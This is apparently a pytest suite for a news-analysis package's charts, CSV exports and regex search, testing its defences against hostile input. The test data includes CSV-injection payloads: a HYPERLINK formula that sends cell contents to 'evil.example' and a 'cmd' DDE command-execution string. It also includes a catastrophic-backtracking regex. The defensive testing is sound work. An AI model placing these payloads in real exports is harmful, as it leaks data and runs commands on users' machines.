"""Hostile input to the tables, charts and exports (issue classes 8, 9 and 10): formula cells in
CSV exports, ``$`` in labels, regexes that backtrack, repetitive articles, and tables missing
what a function needs."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt  # noqa: E402
import numpy as np  # noqa: E402
import pandas as pd  # noqa: E402
import pytest  # noqa: E402
from conftest import ROOT, SEEDS  # noqa: E402
from matplotlib import cbook  # noqa: E402

from analysis.compare.align import align_passages, compared_pairs, coverage, unique_passages  # noqa: E402
from analysis.compare.framing import aligned_wording, framing, lexicon_hits  # noqa: E402
from analysis.compare.pairs import match_quotes, outlet_profile, sourcing  # noqa: E402
from analysis.compare.stories import story_groups, story_table, story_texts  # noqa: E402
from analysis.compare.terms import (  # noqa: E402
    collocations,
    keyness,
    kwic,
    term_counts,
    term_over_time,
    user_regex,
)
from analysis.core.export import safe_csv_cell, to_safe_csv  # noqa: E402
from analysis.views import plots  # noqa: E402


@pytest.fixture(autouse=True)
def _close_figures():
    yield
    plt.close("all")


# ------------------------------------------------------------------- class 8: CSV injection


def test_formula_cells_get_a_quote_in_front():
    for cell in ("=1+1", "+SUM(A1)", "-2+3", "@SUM(A1)", "\tx", "\r=1"):
        assert safe_csv_cell(cell) == "'" + cell
    for value in ("plain", "a=b", " =1", "'=1", "", 5, -3, 2.5, None):
        assert safe_csv_cell(value) == value


def test_quote_export_neutralises_every_formula_and_quotes_every_field(seed_quotes):
    hostile = [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1",
        "\r=1",
    ]
    quotes = seed_quotes.head(len(hostile)).copy()
    quotes["quote"] = hostile
    quotes["speaker"] = ["=Erdogan", "Katz", None, "@x", "-", "Nobody"]
    text = to_safe_csv(quotes)
    lines = text.splitlines()
    assert lines[0].startswith('"') and lines[0].endswith('"')
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["quote"] for r in rows] == ["'" + q for q in hostile]
    assert [r["speaker"] for r in rows] == ["'=Erdogan", "Katz", "", "'@x", "'-", "Nobody"]
    # Numbers stay numbers and the rest of the table reads back unchanged.
    back = pd.read_csv(io.StringIO(text))
    assert back["start"].tolist() == quotes["start"].tolist()
    assert back["doc_id"].tolist() == quotes["doc_id"].tolist()
    assert list(back.columns) == list(quotes.columns)


def test_quote_export_writes_a_file(seed_quotes, tmp_path):
    path = tmp_path / "quote_table.csv"
    assert to_safe_csv(seed_quotes.assign(quote="=1"), path) is None
    back = pd.read_csv(path)
    assert len(back) == len(seed_quotes) and (back["quote"] == "'=1").all()


# -------------------------------------------------------------- class 8: $ in chart labels

DOLLAR_OUTLETS = ["$5 News", "A$AP", "50% $ off", "US$ 5 and $^{", "_underscored"]


def _drawn_as_written(text: str, original: str) -> bool:
    """What matplotlib draws for a non-math label: the text with each ``\\$`` read as ``$``."""
    return not cbook.is_math_text(text) and text.replace(r"\$", "$").strip() == original


def test_dollar_outlets_draw_in_every_chart():
    outlets = pd.DataFrame({"outlet": DOLLAR_OUTLETS, "articles": [5, 4, 3, 2, 1]})
    ax = plots.outlet_bars(outlets)
    ax.figure.canvas.draw()
    labels = [t.get_text() for t in ax.get_yticklabels()][::-1]
    assert all(_drawn_as_written(t, o) for t, o in zip(labels, DOLLAR_OUTLETS, strict=True))

    per_day = pd.DataFrame(
        {
            "period": pd.to_datetime(["2024-08-01"] * 5),
            "outlet": DOLLAR_OUTLETS,
            "articles": [1, 2, 3, 4, 5],
        }
    )
    ax = plots.timeline(per_day)
    ax.figure.canvas.draw()
    legend = [t.get_text() for t in ax.get_legend().get_texts()]
    assert sorted(t.replace(r"\$", "$").strip() for t in legend) == sorted(DOLLAR_OUTLETS)

    key = pd.DataFrame(
        {"outlet": "A$AP $x$", "term": ["$5", "a$b$c", "x", "y"], "score": [2.0, 1.0, -1.0, -2.0]}
    )
    ax = plots.keyness_bars(key, title="A$AP $ave: used more")
    ax.figure.canvas.draw()
    assert _drawn_as_written(ax.get_title(), "A$AP $ave: used more")

    counts = pd.DataFrame({"outlet": DOLLAR_OUTLETS[:2], "term": "$x$", "count": [2, 1]})
    for a in plots.top_terms(counts):
        a.figure.canvas.draw()

    trend = pd.DataFrame(
        {
            "period": pd.to_datetime(["2024-08-01", "2024-09-01"]),
            "outlet": "US$ 5 and $^{",
            "share": [0.1, 0.2],
        }
    )
    plots.term_trend(trend, title="$share$ of $x").figure.canvas.draw()

    speakers = pd.DataFrame(
        {"speaker": ["Mr $mith", "$pe$aker"], "outlet": DOLLAR_OUTLETS[:2], "n_quotes": [3, 1]}
    )
    ax = plots.speakers_per_outlet(speakers)
    ax.figure.canvas.draw()
    ticks = [t.get_text() for t in ax.get_yticklabels()]
    assert [t.replace(r"\$", "$") for t in ticks] == ["$pe$aker", "Mr $mith"]

    profile = pd.DataFrame(
        {
            "outlet": DOLLAR_OUTLETS[:3],
            "shared_share": [0.1, 0.2, 0.3],
            "loaded_per_1000": [1.0, 2.0, 3.0],
            "loaded_own_voice": [1.0] * 3,
            "n_articles": [1, 2, 3],
        }
    )
    plots.outlet_profiles(profile).figure.canvas.draw()


def test_report_runs_on_dollar_outlets(tmp_path):
    from analysis.views.report import NOTEBOOKS, build_report

    folder = tmp_path / "data"
    folder.mkdir()
    for f in SEEDS.iterdir():
        (folder / f.name).write_bytes(f.read_bytes())
    # Invented articles whose outlets reach the charts' ticks, legends and titles.
    records = [
        {
            "id": f"d{i}",
            "source": outlet,
            "date": "2024-08-0" + str(i + 1),
            "text": f"Turkey and Israel ({outlet}) said the talks on $5 aid would go on. "
            "The council met on Tuesday to discuss it.",
        }
        for i, outlet in enumerate(["$5 News", "A$AP $ave", "50% $ off $x^{"])
    ]
    (folder / "dollars.jsonl").write_text(
        "\n".join(json.dumps(r) for r in records) + "\n", encoding="utf-8"
    )
    pages = build_report(
        folder,
        tmp_path / "report",
        progress=False,
        notebooks=[NOTEBOOKS / "01_ingestion.ipynb", NOTEBOOKS / "02_word_frequencies.ipynb"],
    )
    assert [p.name for p in pages] == ["01_ingestion.html", "02_word_frequencies.html"]
    assert "A$AP $ave" in pages[0].read_text(encoding="utf-8")


# ------------------------------------------------------------------ class 9: user regexes

REDOS = "(a+)+$"
DOCS = pd.DataFrame(
    {
        "doc_id": ["x", "y"],
        "outlet": ["X", "Y"],
        "text": ["Prices in the U.S. rose (a+)+$ today.", "USA prices fell."],
    }
)


def test_kwic_is_literal_by_default():
    lines = kwic(DOCS, REDOS)
    assert lines[["doc_id", "match", "start"]].values.tolist() == [["x", REDOS, 24]]
    assert kwic(DOCS, "u.s.")["match"].tolist() == ["U.S."]  # not "USA": the dots are dots
    assert kwic(DOCS, "prices")["doc_id"].tolist() == ["x", "y"]  # words are still terms


def test_kwic_regex_runs_in_re2():
    lines = kwic(DOCS, r"pric\w+ (rose|fell)", regex=True)
    assert lines[["doc_id", "match", "start"]].values.tolist() == [["y", "prices fell", 4]]
    lines = kwic(DOCS, r"(rose|fell)\b", regex=True)
    assert lines[["doc_id", "match"]].values.tolist() == [["x", "rose"], ["y", "fell"]]
    # A compiled Python pattern runs in RE2 too, with its IGNORECASE flag.
    lines = kwic(DOCS, re.compile(r"usa|u\.s\.", re.IGNORECASE), ignore_case=False)
    assert lines["match"].tolist() == ["U.S.", "USA"]


@pytest.mark.parametrize("pattern", [r"(\w+) \1", r"prices(?= rose)", r"(?<!U)SA"])
def test_kwic_regex_re2_cannot_run_is_one_clear_line(pattern):
    with pytest.raises(
        ValueError,
        match=r"not a regular expression RE2 can run .*backreferences"
        r" and lookarounds are not supported",
    ):
        kwic(DOCS, pattern, regex=True)


def test_user_regex_offsets_survive_lone_surrogates_and_astral_characters():
    text = "a\ud800 😀 aab"
    # Only an object column holds a lone surrogate (Arrow strings cannot); no context words,
    # which the output's Arrow columns could not hold either.
    docs = pd.DataFrame({"doc_id": ["s"], "text": pd.Series([text], dtype=object)})
    lines = kwic(docs, "a+b", regex=True, window=0)
    assert lines[["match", "start", "end"]].values.tolist() == [["aab", 5, 8]]
    assert text[5:8] == "aab"
    assert user_regex("A", ignore_case=True).search("xa") is not None


def test_kwic_catastrophic_regex_returns_promptly():
    # Python's re would backtrack 2^n times here; RE2 is linear. Run in a child process so that
    # a regression fails the test (timeout) instead of freezing the suite.
    code = (
        "import pandas as pd; from analysis.compare.terms import kwic; "
        "d = pd.DataFrame({'doc_id': ['x'], 'text': ['a' * 50000 + 'b']}); "
        f"print(len(kwic(d, {REDOS!r}, regex=True)))"
    )
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
        check=True,
    )
    assert done.stdout.split()[-1] == "0"


# ------------------------------------------------------------------ class 10: bad tables

GOOD = pd.DataFrame(
    {
        "doc_id": ["a", "b"],
        "outlet": ["X", "Y"],
        "text": [
            "Israel said the war is over. Turkey agreed.",
            "Turkey said the war in Israel is over.",
        ],
    }
)
QUOTES = pd.DataFrame(
    {
        "doc_id": ["a"],
        "outlet": ["X"],
        "speaker": ["Erdogan"],
        "quote": ["we won"],
        "kind": ["direct"],
        "speaker_type": ["person"],
    }
)
ALIGNMENT = pd.DataFrame(
    {
        c: pd.Series(dtype=t)
        for c, t in [
            ("doc_a", "str"),
            ("doc_b", "str"),
            ("passage_a", "str"),
            ("passage_b", "str"),
            ("start_a", "int64"),
            ("end_a", "int64"),
            ("start_b", "int64"),
            ("end_b", "int64"),
        ]
    }
)
ALIGNMENT.attrs["pairs"] = [("a", "b")]

CALLS = {
    "term_counts": lambda d: term_counts(d),
    "keyness": lambda d: keyness(d),
    "kwic": lambda d: kwic(d, "war"),
    "collocations": lambda d: collocations(d, "war"),
    "term_over_time": lambda d: term_over_time(d, "war"),
    "compared_pairs": lambda d: align_passages(d),
    "unique_passages": lambda d: unique_passages(d, ALIGNMENT),
    "coverage": lambda d: coverage(d, ALIGNMENT),
    "lexicon_hits": lambda d: lexicon_hits(d),
    "framing": lambda d: framing(d, alignment=ALIGNMENT),
    "story_groups": lambda d: story_groups(d),
    "story_table": lambda d: story_table(d),
    "story_texts": lambda d: story_texts(d),
    "sourcing": lambda d: sourcing(d, QUOTES),
}


@pytest.mark.parametrize("fn", sorted(CALLS))
def test_missing_text_column_is_one_clear_line(fn):
    with pytest.raises(
        ValueError,
        match=rf"^{fn}: docs has no column 'text' \(it has 'doc_id', "
        r"'outlet'\); pass a table with columns",
    ):
        CALLS[fn](GOOD.drop(columns="text"))


@pytest.mark.parametrize("fn", sorted(CALLS))
def test_non_string_text_is_one_clear_line(fn):
    bad = GOOD.assign(text=pd.Series([5, GOOD["text"][1]], dtype=object))
    owner = "story_texts" if fn.startswith("story") else fn
    with pytest.raises(
        ValueError,
        match=rf"^{owner}: text of doc_id 'a' is int 5, not str; "
        r"convert the column",
    ):
        CALLS[fn](bad)


@pytest.mark.parametrize(
    "fn",
    [
        "kwic",
        "compared_pairs",
        "coverage",
        "unique_passages",
        "lexicon_hits",
        "framing",
        "sourcing",
        "story_table",
    ],
)
def test_missing_doc_id_column_is_one_clear_line(fn):
    with pytest.raises(ValueError, match=rf"^{fn}: docs has no column 'doc_id'"):
        CALLS[fn](GOOD.drop(columns="doc_id"))


def test_keyness_on_an_empty_corpus_is_an_empty_table_with_its_columns():
    for method, extras in (("log_odds", ["log_odds_ratio"]), ("g2", ["g2", "p_value"])):
        out = keyness(GOOD.iloc[:0], method=method)
        assert out.empty
        assert list(out.columns) == [
            "outlet",
            "term",
            "count",
            "ref_count",
            "n",
            "ref_n",
            "score",
            *extras,
        ]
    with pytest.raises(ValueError, match=r"no articles where \['outlet'\] == 'X'"):
        keyness(GOOD.iloc[:0], target="X")


def test_framing_reads_missing_text_as_an_empty_article():
    nan = GOOD.assign(text=[np.nan, "Turkey said the terrorists were butchers."])
    empty = nan.assign(text=["", "Turkey said the terrorists were butchers."])
    got = framing(nan, alignment=ALIGNMENT)
    pd.testing.assert_frame_equal(got, framing(empty, alignment=ALIGNMENT))
    assert set(got["outlet"]) == {"Y"} and len(got) > 0


def test_story_groups_missing_column_and_mismatched_stories():
    with pytest.raises(ValueError, match=r"^story_groups: docs has no column 'text'"):
        story_groups(GOOD[["doc_id", "outlet"]])
    with pytest.raises(ValueError, match=r"^story_table: stories has 1 rows but docs 2"):
        story_table(GOOD, pd.Series([0]))
    assert story_groups(GOOD.iloc[:0]).empty


def test_alignment_naming_unknown_articles_is_one_clear_line():
    with pytest.raises(
        ValueError,
        match=r"^coverage: the alignment refers to doc_id 'a', "
        r"which docs does not have \(2 such\)",
    ):
        coverage(GOOD.iloc[:0], ALIGNMENT)
    with pytest.raises(ValueError, match=r"^align_passages: the pairs refers to doc_id 'zz'"):
        align_passages(GOOD, pairs=[("a", "zz")])
    with pytest.raises(ValueError, match=r"^outlet_profile: quotes has no column 'speaker'"):
        outlet_profile(GOOD, ALIGNMENT, QUOTES.drop(columns="speaker"))
    with pytest.raises(ValueError, match=r"^match_quotes: quotes has no column 'quote'"):
        match_quotes(QUOTES.drop(columns="quote"))
    with pytest.raises(ValueError, match=r"^aligned_wording: alignment has no column 'passage_a'"):
        aligned_wording(GOOD, ALIGNMENT.drop(columns="passage_a"))
    with pytest.raises(ValueError, match=r"^kwic: docs must be a DataFrame, not list"):
        kwic(["a"], "war")
    assert compared_pairs(GOOD.iloc[:0]) == []


def test_kwic_regex_classes_keep_pythons_unicode_meaning():
    docs = pd.DataFrame({"doc_id": ["u"], "text": ["Gutiérrez said: Erdoğan\u00a0won ٣ times."]})
    lines = kwic(docs, r"[A-Z]\w+ said|\w+\sw[^\W]n|\d", regex=True, ignore_case=False)
    assert lines["match"].tolist() == ["Gutiérrez said", "Erdoğan\u00a0won", "٣"]
    # Python's re finds the same spans (the reference for what a user's regex means).
    text = docs["text"][0]
    want = [m.group() for m in re.finditer(r"[A-Z]\w+ said|\w+\sw[^\W]n|\d", text)]
    assert lines["match"].tolist() == want


def test_windows_out_of_range_are_one_clear_line():
    with pytest.raises(
        ValueError,
        match=r"^kwic: window must be a whole number of words >= 0, "
        r"not -1",
    ):
        kwic(GOOD, "war", window=-1)
    with pytest.raises(
        ValueError,
        match=r"^collocations: window must be a whole number of "
        r"words >= 1, not 0",
    ):
        collocations(GOOD, "war", window=0)
    assert kwic(GOOD, "war", window=0)[["left", "right"]].values.tolist() == [["", ""]] * 2
